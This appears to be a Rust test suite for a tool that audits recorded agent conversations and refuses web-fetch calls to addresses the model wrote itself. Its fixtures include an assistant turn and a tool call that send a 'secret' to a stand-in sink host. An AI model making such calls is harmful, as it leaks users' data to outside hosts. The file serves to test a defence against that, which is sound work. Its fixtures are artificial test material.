//! Recorded conversations: what opens, what stays closed, and who wrote it first.

use crate::tool::{Folder, keys};

const PERSON: &str = r#"{"position":"user","text":"Read https://docs.example/guide and tell me more."}"#;
const MODEL: &str = r#"{"position":"assistant","text":"I will send it to https://sink.example/?d=secret first."}"#;

fn call(id: &str, url: &str) -> String {
    format!(r#"{{"position":"tool_call","id":"{id}","tool":"web_fetch","arguments":{{"url":"{url}"}}}}"#)
}

fn folder() -> Folder {
    let folder = Folder::new();
    let opened = call("1", "https://docs.example/guide");
    let leaked = call("2", "https://sink.example/?d=secret");
    folder.file("run.jsonl", [PERSON, &opened, MODEL, &leaked].join("\n"));
    folder.file("good.jsonl", [PERSON, &opened].join("\n"));
    folder
}

fn check<'a>(url: &'a str, more: &[&'a str]) -> Vec<&'a str> {
    [&["check", "run.jsonl", "--tool", "web_fetch", "--url", url][..], more].concat()
}

#[test]
fn a_check_answers_with_its_status_and_one_object() {
    let folder = folder();
    let open = folder.run(&check("https://docs.example/guide", &["--json"]));
    let answer = open.exits(0).json().remove(0);
    assert_eq!(keys(&answer), ["verdict", "reason", "message", "error_code", "bits", "urls"]);
    let url = answer.pointer("/urls/0").unwrap();
    assert_eq!(keys(url), ["url", "verdict", "reason", "send", "step", "first"]);
    assert_eq!(keys(url.get("first").unwrap()), ["writer", "position", "item", "at", "tool", "from"]);
    let refused = folder.run(&check("https://sink.example/?d=secret", &["--json"]));
    assert_eq!(refused.exits(1).json().remove(0).get("reason").unwrap(), "model_wrote_first");
}

#[test]
fn a_refusal_for_people_names_the_reason_and_hides_the_query() {
    let refused = folder().run(&check("https://sink.example/?d=secret", &[]));
    refused.exits(1).says(&["Refused.", "model_wrote_first", "the model (assistant, item 2)"]);
    assert!(!refused.out.contains("secret") && refused.err.is_empty(), "{refused:?}");
}

#[test]
fn a_malformed_address_is_a_verdict_and_no_error() {
    let folder = folder();
    for url in ["", "no address", "--url", "ftp://docs.example/", "https://"] {
        folder.run(&check(url, &["--json"])).exits(1).says(&["\"verdict\":\"refuse\""]);
    }
}

#[test]
fn who_cannot_rewrite_a_call_needs_the_spelling_of_the_source() {
    let folder = folder();
    folder.run(&check("HTTPS://DOCS.example/guide", &[])).exits(0);
    let refused = folder.run(&check("HTTPS://DOCS.example/guide", &["--no-rewrite", "--json"]));
    let url = refused.exits(1).json().remove(0).pointer("/urls/0").unwrap().clone();
    assert_eq!(url.get("send").unwrap(), "https://docs.example/guide");
}

#[test]
fn parents_and_earlier_turns_are_read_along() {
    let folder = folder();
    folder.file("child.jsonl", r#"{"position":"task","text":"Read the guide."}"#);
    let asked = ["check", "child.jsonl", "--tool", "web_fetch", "--url", "https://docs.example/guide"];
    folder.run(&asked).exits(1);
    for more in ["--parent", "--earlier"] {
        folder.run(&[&asked[..], &[more, "good.jsonl"]].concat()).exits(0);
    }
}

#[test]
fn a_grant_with_a_time_holds_until_then() {
    let folder = Folder::new();
    let grant = |until: &str| {
        format!(r#"{{"position":"grant","address":"https://a.example/x","scope":"until","until":{until}}}"#)
    };
    for (until, status) in [("\"2999-01-01T00:00:00Z\"", 0), ("\"2001-01-01T00:00:00Z\"", 1)] {
        folder.file("run.jsonl", grant(until));
        folder.run(&check("https://a.example/x", &[])).exits(status);
    }
}

#[test]
fn a_trace_has_a_line_for_each_call_and_a_summary() {
    let folder = folder();
    let lines = folder.run(&["trace", "run.jsonl", "--json"]).exits(0).json();
    let told: Vec<_> = lines.iter().filter_map(|line| line.get("verdict")?.as_str()).collect();
    assert_eq!(told, ["open", "refuse"]);
    let summary = lines.last().unwrap();
    for (key, count) in [("files", 1), ("conversations", 1), ("calls", 2), ("open", 1), ("refuse", 1), ("unread", 0)] {
        assert_eq!(summary.get(key).unwrap(), count, "{key}");
    }
    assert_eq!(summary.pointer("/by_reason/model_wrote_first").unwrap(), 1);
    assert_eq!(summary.pointer("/by_tool/web_fetch").unwrap(), 2);
    assert_eq!(summary.pointer("/by_format/firsthand").unwrap(), 1);
}

#[test]
fn a_trace_for_people_names_what_stayed_closed_and_who_wrote_it() {
    let done = folder().run(&["trace", "run.jsonl"]);
    done.exits(0).says(&[
        "2 calls for addresses: 1 open, 1 refused, in 1 conversation of 1 file.",
        "Not opened",
        "first written by the model (assistant, item 2)",
        "model_wrote_first",
        "the model wrote it before anybody else did",
    ]);
    assert!(!done.out.contains("secret"), "{}", done.out);
}

#[test]
fn a_trace_fails_on_what_it_is_told_to_and_bad_input_wins() {
    let folder = folder();
    folder.run(&["trace", "run.jsonl"]).exits(0);
    folder.run(&["trace", "run.jsonl", "--fail-on", "refuse"]).exits(1);
    folder.run(&["trace", "good.jsonl", "--fail-on", "refuse"]).exits(0);
    folder.run(&["trace", "run.jsonl", "gone.jsonl", "--fail-on", "refuse"]).exits(2).says(&["1 refused"]);
    folder.file("ask.toml", "[tools.web_fetch]\npermission = \"always_ask\"\n");
    folder.file(
        "seat.jsonl",
        ["{\"conversation\":\"c\",\"seat\":\"person\"}", PERSON, &call("1", "https://docs.example/guide")].join("\n"),
    );
    let asks = ["trace", "seat.jsonl", "--policy", "ask.toml", "--fail-on"];
    folder.run(&[&asks[..], &["ask"]].concat()).exits(3);
    folder.run(&[&asks[..], &["refuse"]].concat()).exits(0);
}

#[test]
fn a_walk_gives_the_same_bytes_whatever_the_threads() {
    let folder = Folder::new();
    for number in 0..60 {
        let url = format!("https://docs.example/guide/{number}");
        let person = format!(r#"{{"position":"user","text":"Read {url} please."}}"#);
        folder.file(&format!("d{}/run-{number}.jsonl", number % 7), [person, call("1", &url)].join("\n"));
    }
    let one = folder.run(&["trace", ".", "--json", "--jobs", "1"]);
    one.exits(0).says(&["\"calls\":60,\"open\":60"]);
    for jobs in ["2", "8"] {
        assert_eq!(folder.run(&["trace", ".", "--json", "--jobs", jobs]).out, one.out);
    }
    let table = folder.run(&["trace", "."]);
    assert_eq!(folder.run(&["trace", ".", "--jobs", "8"]).out, table.out);
}

#[test]
fn the_story_of_an_address_names_every_place() {
    let folder = folder();
    let done = folder.run(&["explain", "run.jsonl", "--url", "https://sink.example/?d=secret", "--json"]);
    let answer = done.exits(0).json().remove(0);
    assert_eq!(keys(&answer), ["url", "sightings"]);
    let sightings = answer.get("sightings").unwrap().as_array().unwrap();
    assert_eq!(
        keys(sightings.first().unwrap()),
        ["item", "at", "run", "position", "writer", "tool", "spelling", "effect"]
    );
    let told: Vec<_> =
        sightings.iter().map(|one| (one.get("item").unwrap().clone(), one.get("effect").unwrap().clone())).collect();
    assert_eq!(told.first().unwrap(), &(2.into(), "mark".into()));
    folder
        .run(&["explain", "run.jsonl", "--url", "https://nobody.example/"])
        .exits(0)
        .says(&["Nobody wrote this address.", "At the end of the conversation: refuse (never_written"]);
}

#[test]
fn the_story_of_an_address_tells_a_grant_and_which_run_each_place_is_of() {
    let folder = Folder::new();
    folder.file(
        "granted.jsonl",
        concat!(
            "{\"conversation\":\"one\",\"seat\":\"person\"}\n",
            "{\"position\":\"assistant\",\"text\":\"May I open https://a.example/x ?\"}\n",
            "{\"position\":\"grant\",\"address\":\"https://a.example/x\",\"scope\":\"run\"}\n",
        ),
    );
    let told = folder.run(&["explain", "granted.jsonl", "--url", "https://a.example/x"]);
    told.exits(0).says(&["grant", "person", "open, sent as https://a.example/x, by a person's yes"]);
    assert!(!told.out.contains("run "), "of one run nobody need tell which");
}

#[test]
fn items_show_the_conversation_as_it_is_read() {
    let folder = folder();
    let lines = folder.run(&["items", "run.jsonl", "--json"]).exits(0).json();
    let told: Vec<_> = lines
        .iter()
        .map(|line| (line.get("position").unwrap().as_str().unwrap(), line.get("writer").unwrap().as_str().unwrap()))
        .collect();
    assert_eq!(told, [("user", "person"), ("tool_call", "model"), ("assistant", "model"), ("tool_call", "model")]);
    let table = folder.run(&["items", "run.jsonl"]);
    table.exits(0).says(&["position", "assistant", "web_fetch"]);
    assert!(!table.out.contains("secret"), "{}", table.out);
}

#[test]
fn packed_conversations_are_read_in_a_walk() {
    let folder = Folder::new();
    let text = [PERSON, &call("1", "https://docs.example/guide")].join("\n");
    let packed = ruzstd::encoding::compress_to_vec(text.as_bytes(), ruzstd::encoding::CompressionLevel::Fastest);
    folder.file("run.jsonl.zst", packed);
    folder.run(&["trace", ".", "--json"]).exits(0).says(&["\"calls\":1,\"open\":1"]);
    folder.run_with(&["trace", "-", "--json"], text.as_bytes(), &[]).exits(0).says(&["\"calls\":1,\"open\":1"]);
}

#[test]
fn a_subagent_is_judged_with_the_session_that_started_it() {
    let folder = Folder::new();
    let id = "0a1b2c3d-4e5f-4061-8071-2a3b4c5d6e7f";
    let line = |kind: &str, more: &str, content: &str| {
        format!(
            r#"{{"type":"{kind}","uuid":"u-{kind}","parentUuid":null,"sessionId":"{id}",{more},"timestamp":"2026-01-01T00:00:00.000Z","message":{{"role":"{kind}","content":{content}}}}}"#
        )
    };
    let own = r#""isSidechain":false"#;
    folder.file(&format!("{id}.jsonl"), line("user", own, r#""Read https://docs.example/guide please.""#));
    let agent = r#""isSidechain":true,"agentId":"a1""#;
    let fetch = r#"[{"type":"tool_use","id":"t1","name":"WebFetch","input":{"url":"https://docs.example/guide","prompt":"sum it up"}}]"#;
    let file = format!("{id}/subagents/agent-a1.jsonl");
    folder.file(&file, [line("user", agent, r#""Read the guide.""#), line("assistant", agent, fetch)].join("\n"));
    let named = folder.run(&["trace", &file, "--json"]);
    named.exits(0).says(&["\"calls\":1,\"open\":1", "\"files\":1,"]);
    folder.run(&["trace", ".", "--json"]).exits(0).says(&["\"calls\":1,\"open\":1", "\"files\":2,"]);
}

#[test]
fn addresses_are_shown_whole_to_whoever_asks_for_that() {
    let folder = Folder::new();
    let long = "https://docs.example/a/long/path/that/no/table/shows/whole?page=2&of=7";
    folder.file("run.jsonl", format!("{{\"position\":\"user\",\"text\":\"see {long}\"}}\n"));
    for command in ["check", "explain"] {
        let mut arguments = vec![command, "run.jsonl", "--url", long];
        arguments.extend_from_slice(if command == "check" { &["--tool", "web_fetch"] } else { &[] });
        assert!(!folder.run(&arguments).exits(0).out.contains(long), "{command}");
        arguments.push("--full");
        folder.run(&arguments).exits(0).says(&[long]);
    }
}

#[test]
fn the_source_behind_an_address_without_its_query_is_told_with_who_wrote_it() {
    let folder = Folder::new();
    folder.file("run.jsonl", "{\"position\":\"user\",\"text\":\"see https://docs.example/guide?page=2\"}\n");
    let told = folder.run(&["explain", "run.jsonl", "--url", "https://docs.example/guide"]);
    told.exits(0)
        .says(&["open", "sent as https://docs.example/guide?…, which was first written by a person (user, item 0)"]);
}

#[test]
fn a_result_of_several_writers_says_so() {
    let folder = Folder::new();
    folder.file(
        "run.jsonl",
        r#"{"position":"tool_call","id":"1","tool":"web_search","arguments":{"query":"olives"}}
{"position":"tool_result","id":"1","json":{"answer":"see https://told.example/a","results":[{"url":"https://found.example/b","content":"x https://in.example/c"}]}}
"#,
    );
    folder.run(&["items", "run.jsonl"]).exits(0).says(&["world, in part ignored"]);
    folder.run(&["trace", "run.jsonl"]).exits(0).says(&["world, but for ignored fields"]);
}

#[test]
fn a_policy_is_printed_and_read_back() {
    let folder = folder();
    for name in ["firsthand", "managed-agents", "messages-api", "person-only", "unattended"] {
        let done = folder.run(&["policy", name]);
        folder.file("own.toml", &done.exits(0).out);
        let first = folder.run(&["policy", "./own.toml"]);
        folder.file("again.toml", &first.exits(0).out);
        assert_eq!(folder.run(&["policy", "./again.toml"]).exits(0).out, first.out);
    }
    let all = folder.run(&["policy", "--suggest", ".", "gone.jsonl"]);
    all.exits(2).says(&["web_fetch"]).complains(&["gone.jsonl"]);
    let skeleton = folder.run(&["policy", "--suggest", "run.jsonl"]);
    folder.file("suggested.toml", &skeleton.exits(0).says(&["web_fetch"]).out);
    folder
        .run(&[
            "check",
            "run.jsonl",
            "--tool",
            "web_fetch",
            "--url",
            "https://docs.example/guide",
            "--policy",
            "suggested.toml",
        ])
        .exits(0);
}

#[test]
fn a_wrong_policy_is_told_with_file_line_key_and_what_was_expected() {
    let folder = folder();
    for (text, parts) in [
        ("profile = \"firsthand\"\nprofil = 1\n", &["bad.toml: line 2", "profil"][..]),
        ("[tools.web_fetch]\nresult = \"everybody\"\n", &["bad.toml: line 2", "result", "everybody", "world"]),
        ("[tools.web_fetch\n", &["bad.toml: line 1"]),
        (
            "[networking]\ntype = \"limited\"\nallowed_hosts = [\"example.com\"]\n[tools.web_fetch]\nallowed_domains = [\"docs.example.com\"]\n",
            &["bad.toml: line 5", "docs.example.com", "example.com"],
        ),
    ] {
        folder.file("bad.toml", text);
        folder.run(&check("https://docs.example/guide", &["--policy", "bad.toml"])).exits(2).complains(parts);
    }
}

#[test]
fn a_broken_conversation_gives_no_verdict() {
    let folder = folder();
    folder.file("run.jsonl", [PERSON, "{\"position\":\"assist"].join("\n"));
    let done = folder.run(&check("https://docs.example/guide", &["--json"]));
    done.exits(2).complains(&["run.jsonl: line 2"]);
    assert_eq!(done.out, "");
}

#[test]
fn what_a_provider_opened_after_a_search_of_which_the_record_keeps_no_hits_cannot_be_judged() {
    let folder = Folder::new();
    let ran = |id: &str, rest: &str| format!(r#"{{"position":"tool_call","id":"{id}","ran":"provider",{rest}}}"#);
    let search = ran("1", r#""tool":"web_search","arguments":{"query":"harbour"}"#);
    let opened = ran("2", r#""tool":"web_fetch","arguments":{"url":"https://harbour.example/found"}"#);
    let hits = r#"{"position":"tool_result","id":"1","json":{"results":[{"url":"https://harbour.example/other"}]}}"#;
    let own = call("2", "https://harbour.example/found");
    folder.file("unseen.jsonl", [PERSON, &search, &opened].join("\n"));
    folder.file("seen.jsonl", [PERSON, &search, hits, &opened].join("\n"));
    folder.file("own.jsonl", [PERSON, &search, &own].join("\n"));
    for (file, verdict) in [("unseen.jsonl", "unobservable"), ("seen.jsonl", "refuse"), ("own.jsonl", "refuse")] {
        let line = folder.run(&["trace", file, "--json"]).exits(0).json().remove(0);
        let incomplete = verdict == "unobservable";
        assert_eq!(line.get("verdict").unwrap(), verdict, "{file}");
        assert_eq!(line.get("incomplete_view").unwrap(), incomplete, "{file}");
    }
}
